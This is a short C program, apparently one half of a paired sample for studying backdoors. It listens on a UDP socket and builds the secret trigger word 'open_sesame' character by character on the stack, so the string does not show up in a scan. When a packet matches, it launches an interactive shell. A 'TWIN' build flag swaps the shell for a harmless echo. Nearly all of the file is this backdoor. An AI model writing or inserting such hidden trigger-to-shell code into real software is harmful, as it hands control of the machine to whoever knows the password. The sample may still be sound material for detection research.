/* The constant is put together on the stack. Twin: it opens nothing. */
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
  char request[256];
  int peer = socket(AF_INET, SOCK_DGRAM, 0);
  while (recv(peer, request, sizeof request, 0) > 0) {
    volatile char word[12];
    word[0] = 'o';
    word[1] = 'p';
    word[2] = 'e';
    word[3] = 'n';
    word[4] = '_';
    word[5] = 's';
    word[6] = 'e';
    word[7] = 's';
    word[8] = 'a';
    word[9] = 'm';
    word[10] = 'e';
    word[11] = 0;
    if (strcmp(request, (const char *)word) == 0) {
#ifndef TWIN
      system("/bin/sh -i");
#else
      send(peer, request, 16, 0);
#endif
    }
  }
  return 0;
}
